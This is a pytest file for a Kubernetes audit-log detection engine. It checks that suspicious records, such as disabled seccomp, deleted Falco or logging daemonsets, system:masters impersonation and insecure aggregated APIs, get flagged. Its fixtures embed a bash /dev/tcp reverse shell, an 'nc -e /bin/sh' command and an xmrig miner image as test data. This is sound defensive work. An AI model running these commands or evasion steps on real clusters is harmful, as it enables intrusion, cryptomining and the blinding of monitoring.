"""What public families of detection rules ask to be told of in a cluster has its trait and its verdict here.

Compared with Falco, Panther, Sigma and Elastic; raw audit records through reader and bridge.
"""

from typing import Any

import pytest

from core.assessment import Verdict
from core.event import ActorKind
from core.trait import Trait
from tests.unit.core.providers.acting import judged
from tests.unit.core.providers.kubernetes.given import audit

PERSON = "eve@acme.example"
PROXY = "system:serviceaccount:cattle-impersonation-system:proxy"
MANAGER = "system:serviceaccount:kube-system:daemon-set-controller"


def pod(account: str) -> dict[str, Any]:
    containers = [{"name": "c", "image": "registry.k8s.io/pause:3.9"}]
    return {"kind": "Pod", "apiVersion": "v1", "metadata": {"name": "p"}, "spec": {"serviceAccountName": account, "containers": containers}}


APPARMOR = "container.apparmor.security.beta.kubernetes.io/c"
TAINT = "node-role.kubernetes.io/control-plane"


def runs(**container: Any) -> dict[str, Any]:
    spec = {"containers": [{"name": "c", "image": "ubuntu:24.04", **container}]}
    return {"kind": "Pod", "apiVersion": "v1", "metadata": {"name": "p"}, "spec": spec}


def pinned(**spec: Any) -> dict[str, Any]:
    made = runs()
    return {**made, "spec": {**made["spec"], "tolerations": [{"key": TAINT, "operator": "Exists"}], **spec}}


def scheduled(image: str) -> dict[str, Any]:
    template = {"spec": {"containers": [{"name": "c", "image": image}]}}
    return {"kind": "CronJob", "metadata": {"name": "sync"}, "spec": {"jobTemplate": {"spec": {"template": template}}}}


def certificate(signer: str) -> dict[str, Any]:
    return {"kind": "CertificateSigningRequest", "metadata": {"name": "eve"}, "spec": {"signerName": f"kubernetes.io/{signer}"}}


ALARMS = [
    (
        "a controller's rights",
        audit("create", "pods", namespace="kube-system", body=pod("replicaset-controller"), user=PERSON),
        Trait.GRANTS_ACCESS,
    ),
    (
        "the kubelets' settings",
        audit("update", "configmaps", namespace="kube-system", name="kubelet-config-1.33", body={"data": {"kubelet": "x"}}, user=PERSON),
        Trait.WEAKENS_PROTECTION,
    ),
    (
        "whom aggregated servers believe",
        audit(
            "patch",
            "configmaps",
            namespace="kube-system",
            name="extension-apiserver-authentication",
            body={"data": {"c": "x"}},
            user=PERSON,
        ),
        Trait.CHANGES_TRUST,
    ),
    (
        "an aggregated API",
        audit(
            "create",
            "apiservices.apiregistration.k8s.io",
            namespace="",
            name="v1.evil",
            user=PERSON,
            body={"kind": "APIService", "metadata": {"name": "v1.evil"}, "spec": {"service": {"name": "evil", "namespace": "x"}}},
        ),
        Trait.CHANGES_TRUST,
    ),
    (
        "a program that mines",
        audit("create", "cronjobs.batch", user=PERSON, body=scheduled("docker.io/xmrig/xmrig:6")),
        Trait.USES_ATTACK_TOOL,
    ),
    (
        "a shell for an address outside",
        audit("create", "pods", user=PERSON, body=runs(command=["sh", "-c", "bash -i >& /dev/tcp/198.51.100.4/443 0>&1"])),
        Trait.USES_ATTACK_TOOL,
    ),
    (
        "a listener's shell",
        audit("create", "pods", user=PERSON, body=runs(args=["nc", "198.51.100.4", "443", "-e", "/bin/sh"])),
        Trait.RUNS_FOREIGN_CODE,
    ),
    (
        "no seccomp",
        audit("create", "pods", user=PERSON, body=runs(securityContext={"seccompProfile": {"type": "Unconfined"}})),
        Trait.WEAKENS_PROTECTION,
    ),
    (
        "no AppArmor",
        audit("create", "pods", user=PERSON, body={**runs(), "metadata": {"annotations": {APPARMOR: "unconfined"}}}),
        Trait.WEAKENS_PROTECTION,
    ),
    (
        "on the control plane",
        audit("create", "pods", user=PERSON, body=pinned(nodeName="cp-1")),
        Trait.WEAKENS_PROTECTION,
    ),
    (
        "past the check of images",
        audit("create", "pods", user=PERSON, body={**runs(), "metadata": {"labels": {"image-policy.k8s.io/break-glass": "true"}}}),
        Trait.WEAKENS_PROTECTION,
    ),
    (
        "an exception from a policy",
        audit("create", "policyexceptions.kyverno.io", user=PERSON, body={"spec": {"exceptions": [{"policyName": "no-root"}]}}),
        Trait.WEAKENS_PROTECTION,
    ),
    (
        "a constraint gone",
        audit("delete", "noroot.constraints.gatekeeper.sh", namespace="", user=PERSON),
        Trait.WEAKENS_PROTECTION,
    ),
    (
        "a constraint that only reports",
        audit("patch", "noroot.constraints.gatekeeper.sh", namespace="", user=PERSON, body={"spec": {"enforcementAction": "warn"}}),
        Trait.WEAKENS_PROTECTION,
    ),
    (
        "an API that is not verified",
        audit("patch", "apiservices.apiregistration.k8s.io", namespace="", user=PERSON, body={"spec": {"insecureSkipTLSVerify": True}}),
        Trait.WEAKENS_PROTECTION,
    ),
    (
        "the cluster's names",
        audit("update", "configmaps", namespace="kube-system", name="coredns", user=PERSON, body={"data": {"Corefile": ".:53 {}"}}),
        Trait.CHANGES_DNS,
    ),
    (
        "in the name of a group without limits",
        audit("delete", "deployments.apps", user=PERSON, impersonatedUser={"username": "x", "groups": ["system:masters"]}),
        Trait.GRANTS_ACCESS,
    ),
    (
        "a certificate to be a user with",
        audit(
            "create", "certificatesigningrequests.certificates.k8s.io", namespace="", user=PERSON, body=certificate("kube-apiserver-client")
        ),
        Trait.CREATES_IDENTITY,
    ),
    ("the watcher", audit("delete", "daemonsets.apps", namespace="falco", name="falco", user=PERSON), Trait.STOPS_DETECTION),
    ("the carrier of logs", audit("delete", "daemonsets.apps", namespace="logging", name="fluent-bit", user=PERSON), Trait.STOPS_LOGGING),
]


@pytest.mark.parametrize(("record", "trait"), [row[1:] for row in ALARMS], ids=[row[0] for row in ALARMS])
def test_an_act_that_attacks_consist_of_alarms_when_nothing_explains_it(record: dict[str, Any], trait: Trait) -> None:
    (one,) = judged("k8s-audit", record)
    assert trait in one.event.traits
    assert one.verdict is Verdict.UNPLANNED


def test_a_servers_certificate_that_is_asked_for_is_watched_before_it_is_approved() -> None:
    body = certificate("kubelet-serving")
    record = audit("create", "certificatesigningrequests.certificates.k8s.io", namespace="", name="eve", body=body, user=PERSON)
    (one,) = judged("k8s-audit", record)
    assert Trait.CREATES_KEY_PAIR in one.event.traits
    assert one.verdict is Verdict.UNKNOWN


@pytest.mark.parametrize(
    "record",
    [
        audit("create", "pods", namespace="kube-system", body=pod("coredns"), user=PERSON),
        audit("create", "pods", namespace="shop", body=pod("order-controller"), user=PERSON),
        audit("delete", "daemonsets.apps", namespace="shop", name="cache", user=PERSON),
        audit("delete", "pods", namespace="falco", name="falco-x7k2p", user=MANAGER, agent="kube-controller-manager/v1.31.2"),
        audit("create", "pods", body=runs(command=["sh", "-c", "nc -z db 5432 && exec /app --config /etc/app.sh"]), user=PERSON),
        audit("create", "pods", body=runs(securityContext={"seccompProfile": {"type": "RuntimeDefault"}}), user=PERSON),
        audit("create", "daemonsets.apps", body=pinned(), user=PERSON),
        audit("update", "configmaps", namespace="shop", name="coredns", body={"data": {"Corefile": "x"}}, user=PERSON),
        audit("patch", "noroot.constraints.gatekeeper.sh", namespace="", user=PERSON, body={"spec": {"enforcementAction": "deny"}}),
        audit("delete", "deployments.apps", user=PERSON, impersonatedUser={"username": "x", "groups": ["system:authenticated"]}),
        audit("delete", "deployments.apps", user=PROXY, impersonatedUser={"username": PERSON, "groups": ["system:masters"]}),
    ],
    ids=[
        "another account",
        "another namespace",
        "another daemon set",
        "a pod that its controller replaces",
        "a port that is waited for",
        "the usual seccomp",
        "what tolerates every node",
        "another's names",
        "a constraint that refuses",
        "in another's name",
        "through a proxy",
    ],
)
def test_what_only_looks_like_it_has_none_of_those_traits(record: dict[str, Any]) -> None:
    (one,) = judged("k8s-audit", record)
    assert not one.event.traits & {
        Trait.GRANTS_ACCESS,
        Trait.STOPS_DETECTION,
        Trait.STOPS_LOGGING,
        Trait.CHANGES_TRUST,
        Trait.WEAKENS_PROTECTION,
        Trait.USES_ATTACK_TOOL,
    }


def privileged(image: str) -> dict[str, Any]:
    container = {"name": "c", "image": image, "securityContext": {"privileged": True}}
    return {"kind": "Pod", "metadata": {"name": "p"}, "spec": {"hostNetwork": True, "containers": [container]}}


@pytest.mark.parametrize(
    ("user", "namespace", "image", "alarms"),
    [
        (MANAGER, "kube-system", "registry.k8s.io/kube-proxy:v1.31.2", False),
        (MANAGER, "kube-system", "evil.example/proxy:1", True),
        (MANAGER, "shop", "registry.k8s.io/kube-proxy:v1.31.2", True),
        (PERSON, "kube-system", "registry.k8s.io/kube-proxy:v1.31.2", True),
    ],
    ids=["the proxy", "another's image", "another namespace", "by a person"],
)
def test_only_the_clusters_own_parts_may_have_the_nodes_rights_unremarked(user: str, namespace: str, image: str, alarms: bool) -> None:
    agent = "kube-controller-manager/v1.31.2" if user == MANAGER else "kubectl/v1.31.2"
    (one,) = judged("k8s-audit", audit("create", "pods", namespace=namespace, name="p", user=user, agent=agent, body=privileged(image)))
    assert (Trait.PRIVILEGED_WORKLOAD in one.event.traits) is alarms
    assert (one.verdict is Verdict.UNPLANNED) is alarms


def test_upkeep_by_nobody_known_is_not_called_routine() -> None:
    scaled = audit("patch", "deployments.apps/scale", name="api", user="", body={"spec": {"replicas": 9}})
    (one,) = judged("k8s-audit", scaled)
    assert one.verdict is Verdict.UNKNOWN


@pytest.mark.parametrize(
    ("user", "agent", "replicas", "verdict"),
    [
        ("system:serviceaccount:dev:debug", "kubectl/v1.31.2", 0, Verdict.UNKNOWN),
        ("system:serviceaccount:dev:debug", "kubectl/v1.31.2", 3, Verdict.UNKNOWN),
        ("system:serviceaccount:shop:night", "python-requests/2.32", 0, Verdict.UNKNOWN),
        ("system:serviceaccount:shop:load", "python-requests/2.32", 3, Verdict.ROUTINE),
        ("system:serviceaccount:kube-system:horizontal-pod-autoscaler", "kube-controller-manager/v1.31.2", 3, Verdict.ROUTINE),
    ],
)
def test_scaling_is_upkeep_where_something_scales_by_itself_and_leaves_it_running(
    user: str, agent: str, replicas: int, verdict: Verdict
) -> None:
    scaled = audit("patch", "deployments.apps/scale", name="api", user=user, agent=agent, body={"spec": {"replicas": replicas}})
    (one,) = judged("k8s-audit", scaled)
    assert one.verdict is verdict


@pytest.mark.parametrize(
    ("verb", "resource", "agent", "kind"),
    [
        ("create", "secrets", "kubelet/v1.31.2", ActorKind.UNKNOWN),
        ("create", "pods/exec", "kubelet/v1.31.2", ActorKind.UNKNOWN),
        ("patch", "nodes", "kubectl/v1.31.2", ActorKind.UNKNOWN),
        ("patch", "nodes", "kubelet/v1.31.2", ActorKind.SERVICE),
        ("create", "pods", "kubelet/v1.31.2", ActorKind.SERVICE),
        ("create", "pods/eviction", "kubelet/v1.31.2", ActorKind.SERVICE),
    ],
)
def test_a_nodes_credential_is_the_platform_only_for_what_nodes_do(verb: str, resource: str, agent: str, kind: ActorKind) -> None:
    (one,) = judged("k8s-audit", audit(verb, resource, name="n1", user="system:node:n1", agent=agent))
    assert one.event.actor.kind is kind
    assert one.verdict is (Verdict.ROUTINE if kind is ActorKind.SERVICE else Verdict.UNPLANNED)


@pytest.mark.parametrize(
    ("user", "name"),
    [
        ("repo:acme/shop:ref:refs/heads/main", "acme/shop"),
        ("github:repo:acme/shop:environment:prod", "acme/shop"),
        ("project_path:acme/shop:ref_type:branch:ref:main", "acme/shop"),
        ("arn:aws:sts::123456789012:assumed-role/ci-deploy/GitHubActions", "GitHubActions"),
        ("system:serviceaccount:spinnaker:deck", "spinnaker/deck"),
    ],
)
def test_a_job_of_a_pipeline_is_known_by_the_name_that_its_system_gives_it(user: str, name: str) -> None:
    (one,) = judged("k8s-audit", audit("patch", "deployments.apps", user=user, body={"spec": {"paused": False}}))
    assert (one.event.actor.kind, one.event.actor.name, one.verdict) == (ActorKind.AUTOMATION, name, Verdict.PLANNED)
    assert not one.event.actor.session  # A subject is every job's; taken for a session, all of them would be one story.


@pytest.mark.parametrize(
    "user", ["system:serviceaccount:external-secrets:external-secrets", "system:serviceaccount:kube-system:descheduler-sa"]
)
def test_a_well_known_controller_does_its_usual(user: str) -> None:
    renewed = audit("update", "secrets", user=user, agent="external-secrets/v0.10", body={"kind": "Secret", "data": {"k": "dg=="}})
    (one,) = judged("k8s-audit", renewed)
    assert (one.event.actor.kind, one.verdict) == (ActorKind.SERVICE, Verdict.ROUTINE)
    assert Trait.ROTATES in one.event.traits
